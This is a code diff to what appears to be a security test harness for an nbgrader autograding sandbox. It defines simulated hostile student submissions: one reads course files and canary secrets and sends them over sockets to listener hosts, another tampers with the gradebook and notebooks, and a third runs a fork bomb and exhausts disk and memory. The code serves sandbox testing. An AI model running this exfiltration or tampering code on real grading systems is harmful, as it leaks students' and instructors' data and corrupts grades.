@@ -19,6 +19,7 @@ from __future__ import annotations
 import copy
 import os
 import secrets
+import shutil
 import subprocess
 import sys
 from dataclasses import dataclass, field
@@ -40,6 +41,11 @@ class Course:
     canaries: dict[str, str]
     listeners: list[tuple[str, int]]
     env: dict[str, str] = field(default_factory=dict)
+
+    def copy(self, root: Path, env: dict[str, str]) -> Course:
+        """The course as it is now, at ``root``, run with ``env`` (for another grading run)."""
+        shutil.copytree(self.root, root, symlinks=True)
+        return Course(root, self.canaries, self.listeners, env)
 
     def nbgrader(self, *args: str, timeout: float = 600) -> subprocess.CompletedProcess[str]:
         """``nbgrader ARGS`` in the course directory, as the instructor (root) runs it."""
@@ -112,7 +118,7 @@ def _source_notebook(canaries: dict[str, str], future: bool = False) -> nbformat
     return nb
 
 
-def _answers(name: str, canaries: dict[str, str], course: Path, listeners: str) -> tuple[str, str]:
+def _answers(name: str, canaries: dict[str, str], listeners: str) -> tuple[str, str]:
     """The two answer cells of student ``name``."""
     mine = canaries[f"student-{name}"] if f"student-{name}" in canaries else ""
     if name == "alice":
@@ -128,26 +134,30 @@ def _answers(name: str, canaries: dict[str, str], course: Path, listeners: str) 
     if name == "carol":  # left the template as released
         return ("", "")
     if name == "mallory":  # reads whatever it can reach, phones home, tampers, prints it all
-        return (STEAL.format(course=str(course), listeners=listeners), TAMPER)
+        return (STEAL.format(listeners=listeners), TAMPER)
     return (RESOURCES, MEMORY_BOMB)  # eve: fork bomb, disk, then memory
 
 
 # Runs in the grading kernel: every place an instructor's or another student's secret lives.
+# Runs in the grading kernel: every place an instructor's or another student's secret lives.
+# It prints short lines first (nbgrader's LimitOutput keeps the first 1000 lines and 10,000
+# characters of each output), then every canary-like string it found, then what it read.
 STEAL = r"""
-import os, socket, pathlib, getpass
-COURSE = pathlib.Path({course!r})
+import os, re, socket, pathlib, getpass
 here = pathlib.Path.cwd()
-print("cwd", here, "uid", os.getuid(), "user", getpass.getuser())
-def dump(path, depth=0):
+COURSE = here.parents[2]  # the course root, as nbgrader lays it out
+found, notes = set(), []
+def dump(path):
     try:
         if path.is_dir():
             for child in sorted(path.iterdir()):
-                dump(child, depth + 1)
+                dump(child)
         else:
-            print("READ", path, path.read_bytes()[:200000].decode("latin-1"))
+            found.update(re.findall(r"CANARY-[A-Za-z0-9-]+", path.read_bytes().decode("latin-1")))
+            notes.append(f"READ {{path}}")
     except OSError as exc:
-        print("DENIED", path, type(exc).__name__)
-for target in [COURSE, here.parents[0], here.parents[1], here.parents[2],
+        notes.append(f"DENIED {{path}} {{type(exc).__name__}}")
+for target in [COURSE, here.parents[0], here.parents[1],
                COURSE / "source", COURSE / "release", COURSE / "gradebook.db",
                COURSE / "submitted", COURSE / "autograded", COURSE / "feedback"]:
     dump(target)
@@ -156,13 +166,15 @@ for host, port in {listeners}:
     s.settimeout(3)
     try:
         s.connect((host, port))
-        s.sendall(b"exfiltrated " + str(sorted(os.listdir(COURSE))).encode())
+        s.sendall(f"exfiltrated from {{here}}: {{sorted(found)}}".encode())
         print("CONNECTED", host, port)
     except OSError as exc:
         print("NO ROUTE", host, port, exc)
     finally:
         s.close()
-print("ENV", sorted(os.environ))
+print("cwd", here, "uid", os.getuid(), "user", getpass.getuser())
+print("FOUND", " ".join(sorted(found)))
+print("\n".join(notes[:200]))
 def squares(n):
     return []
 """
@@ -174,7 +186,7 @@ for path in [pathlib.Path.cwd() / "ps1.ipynb", COURSE / "gradebook.db",
              COURSE / "autograded" / "alice" / "ps1" / "ps1.ipynb", pathlib.Path.cwd() / "x"]:
     try:
         with open(path, "a") as f:
-            f.write("tampered")
+            f.write("TAMPERED" + "-BY-MALLORY")  # not in her notebook as one string
         print("WROTE", path)
     except OSError as exc:
         print("CANNOT WRITE", path, type(exc).__name__)
@@ -247,7 +259,6 @@ def make_course(root: Path, env: dict[str, str], listeners: list[tuple[str, int]
     (root / "nbgrader_config.py").write_text(
         "c = get_config()\n"
         f"c.CourseDirectory.course_id = {COURSE_ID!r}\n"
-        f"c.CourseDirectory.root = {str(root)!r}\n"
         # every submission runs in the sandboxed kernelspec, whatever its notebook names
         f"c.ExecutePreprocessor.kernel_name = {KERNEL!r}\n"
         "c.ExecutePreprocessor.timeout = 60\n"
@@ -267,7 +278,7 @@ def make_course(root: Path, env: dict[str, str], listeners: list[tuple[str, int]
     for name in (*HONEST, *ATTACKERS):
         folder = root / "submitted" / name / ASSIGNMENT
         folder.mkdir(parents=True)
-        nb = _student_notebook(release, _answers(name, canaries, root, shown))
+        nb = _student_notebook(release, _answers(name, canaries, shown))
         nbformat.write(nb, folder / f"{ASSIGNMENT}.ipynb")
         (folder / "timestamp.txt").write_text("2026-12-01 12:00:00.000000 UTC")
     os.chmod(root, 0o755)
